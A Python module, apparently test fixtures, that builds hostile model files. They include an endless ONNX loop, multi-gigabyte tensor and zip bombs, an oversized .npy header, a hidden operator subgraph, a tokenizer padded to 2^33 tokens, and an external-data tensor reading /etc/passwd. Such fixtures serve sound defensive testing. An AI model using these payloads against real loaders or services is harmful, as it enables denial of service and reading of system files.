"""ONNX files and tokenizers that harm who opens or runs them. One function each."""

from __future__ import annotations

import base64
import io
import json
import struct
import zipfile

import numpy as np
import onnx
from onnx import TensorProto, helper, numpy_helper


def endless_loop() -> bytes:
    """A Loop of 2^62 rounds: a run that never ends."""
    body = helper.make_graph(
        [helper.make_node("Identity", ["go"], ["again"])],
        "body",
        [_info("round", TensorProto.INT64), _info("go", TensorProto.BOOL)],
        [_info("again", TensorProto.BOOL)],
    )
    return _file([helper.make_node("Loop", ["count", ""], [], body=body)], count=np.array(1 << 62))


def tensor_out_of_nothing() -> bytes:
    """A ConstantOfShape of 2^30 floats: 4 GB when it is opened."""
    return _file([helper.make_node("ConstantOfShape", ["size"], ["out"])], size=np.array([1 << 30]))


def hidden_operator() -> bytes:
    """A graph in the attribute of an operator that is allowed."""
    inner = helper.make_graph([], "inner", [], [])
    node = helper.make_node("Identity", ["image"], ["out"])
    node.attribute.append(helper.make_attribute("body", inner))
    return _file([node])


def foreign_file(name: str = "/etc/passwd") -> bytes:
    """A tensor that lies in a file outside the folder."""
    tensor = TensorProto(name="weights", dims=[10], data_type=TensorProto.FLOAT)
    tensor.data_location = TensorProto.EXTERNAL
    tensor.external_data.add(key="location", value=name)
    model = onnx.load_from_string(_file([helper.make_node("Identity", ["image"], ["out"])]))
    model.graph.initializer.append(tensor)
    return bytes(model.SerializeToString())


def npz_bomb(size: int = 2 << 30) -> str:
    """Arrays of the metadata that inflate a thousandfold."""
    file = io.BytesIO()
    with (
        zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive,
        archive.open("class_features.npy", "w", force_zip64=True) as entry,
    ):
        entry.write(_npy_header((size // 4,)))
        for _ in range(size >> 24):
            entry.write(bytes(1 << 24))
    return base64.b64encode(file.getvalue()).decode()


def npz_of_a_large_header() -> str:
    """An array whose header asks for 4 TB, and that holds nothing."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("class_features.npy", _npy_header((1 << 40,)))
    return base64.b64encode(file.getvalue()).decode()


def tokenizer_of_endless_padding(tokenizer: str) -> str:
    """CLIP's own, padding every text to 2^33 tokens: the process ends."""
    plain = json.loads(tokenizer)
    plain["padding"] = {
        "strategy": {"Fixed": 1 << 33}, "direction": "Right", "pad_to_multiple_of": None,
        "pad_id": 0, "pad_type_id": 0, "pad_token": "x",
    }  # fmt: skip
    return json.dumps(plain)


def _info(name: str, kind: int) -> onnx.ValueInfoProto:
    return helper.make_tensor_value_info(name, kind, [])


def _file(nodes: list[onnx.NodeProto], **initializers: np.ndarray) -> bytes:
    image = helper.make_tensor_value_info("image", TensorProto.FLOAT, ["batch", 3, 4, 4])
    tensors = [numpy_helper.from_array(array, name) for name, array in initializers.items()]
    graph = helper.make_graph(nodes, "graph", [image], [], tensors)
    return bytes(helper.make_model(graph).SerializeToString())


def _npy_header(shape: tuple[int, ...]) -> bytes:
    text = repr({"descr": "<f4", "fortran_order": False, "shape": shape}).encode() + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(text)) + text
